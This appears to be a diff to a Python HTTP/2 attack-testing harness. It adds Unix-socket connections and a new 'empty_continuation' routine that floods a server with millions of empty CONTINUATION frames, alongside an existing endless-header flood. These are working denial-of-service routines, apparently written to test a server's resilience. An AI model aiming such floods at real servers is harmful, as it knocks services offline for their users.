@@ -62,15 +62,26 @@ def request(token=None, path=STATUS_CALL, extra=b""):
     return b"".join(field(*one) for one in fields) + extra
 
 
+def connect(address):
+    """To "address:port" or "unix:path"."""
+    if address.startswith("unix:"):
+        connection = socket.socket(socket.AF_UNIX)
+        connection.settimeout(PATIENCE)
+        connection.connect(address.removeprefix("unix:"))
+        return connection
+    host, _, port = address.rpartition(":")
+    connection = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
+    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    return connection
+
+
 class Connection:
-    """To "address:port". It has said what every client says first."""
+    """To "address:port" or "unix:path". It has said what every client says first."""
 
     def __init__(self, address, tls=None, wait=True, path=STATUS_CALL, extra=b""):
         """path, extra: of the calls that attacks make."""
         self._path, self._extra = path, extra
-        host, _, port = address.rpartition(":")
-        self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
-        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.socket = connect(address)
         if tls:
             self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
         self._received = b""
@@ -135,6 +146,15 @@ def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
     connection.send(frame(HEADERS, 0, 3, connection.request(token) + ENDLESS_FIELD))
     piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
     for _ in range((megabytes << 20) // frame_bytes):
+        connection.send(piece)
+
+
+def empty_continuation(connection, token, count=2_000_000):
+    """A header that never ends, of frames that say nothing."""
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, connection.request(token)))
+    connection.send(frame(HEADERS, 0, 3, connection.request(token)))
+    piece = frame(CONTINUATION, 0, 3) * 1000
+    for _ in range(count // 1000):
         connection.send(piece)
 
 
